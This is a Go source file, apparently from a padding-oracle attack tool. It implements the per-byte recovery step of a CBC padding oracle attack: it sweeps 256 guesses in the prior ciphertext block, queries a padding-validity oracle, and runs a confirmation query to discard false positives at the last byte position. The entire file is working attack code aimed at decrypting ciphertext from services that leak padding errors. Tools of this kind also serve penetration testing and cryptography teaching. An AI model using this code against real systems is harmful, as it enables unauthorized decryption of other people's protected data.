package recovery

import (
	"context"

	"github.com/nullmass/padoracle/pkg/oracle"
)

// recoverByte finds the intermediate value D(target)[pos]. It sweeps
// guesses 0..255 in the working copy of prev, with every higher
// position forced so the already-recovered intermediates decrypt to the
// pad value 16-pos. A guess that validates is only accepted after the
// confirmation query, which filters the coincidental hits that plague
// position 15 (any guess that turns the last byte into 0x01 validates,
// and so does the untouched original when the real plaintext ends in
// padding).
//
// Returns found=false when no guess survives confirmation; the caller
// records the position as unresolved and moves on.
func (c *Chain) recoverByte(ctx context.Context, prev, target []byte, inter *[oracle.BlockSize]byte, known *[oracle.BlockSize]bool, pos int) (byte, bool, error) {
	pad := byte(oracle.BlockSize - pos)

	work := make([]byte, oracle.BlockSize)
	copy(work, prev)
	for i := pos + 1; i < oracle.BlockSize; i++ {
		work[i] = inter[i] ^ pad
	}

	if c.pool != nil && c.concurrentTransport() {
		return c.recoverByteRacing(ctx, work, target, pos, pad)
	}

	for g := 0; g < 256; g++ {
		work[pos] = byte(g)
		ok, err := c.query(ctx, work, target)
		if err != nil {
			return 0, false, err
		}
		if !ok {
			continue
		}

		confirmed, err := c.confirm(ctx, work, target, pos)
		if err != nil {
			return 0, false, err
		}
		if confirmed {
			return byte(g) ^ pad, true, nil
		}
	}
	return 0, false, nil
}

// confirm re-queries with a byte strictly before pos flipped. A genuine
// pad of length 16-pos only depends on bytes pos..15, so its verdict
// cannot change; a coincidental shorter pad (the classic pos=15 false
// positive) depends on the flipped byte and breaks. At pos 0 the whole
// block is forced and no shorter interpretation exists.
func (c *Chain) confirm(ctx context.Context, work, target []byte, pos int) (bool, error) {
	if pos == 0 {
		return true, nil
	}
	probe := make([]byte, oracle.BlockSize)
	copy(probe, work)
	probe[pos-1] ^= 0xff
	return c.query(ctx, probe, target)
}
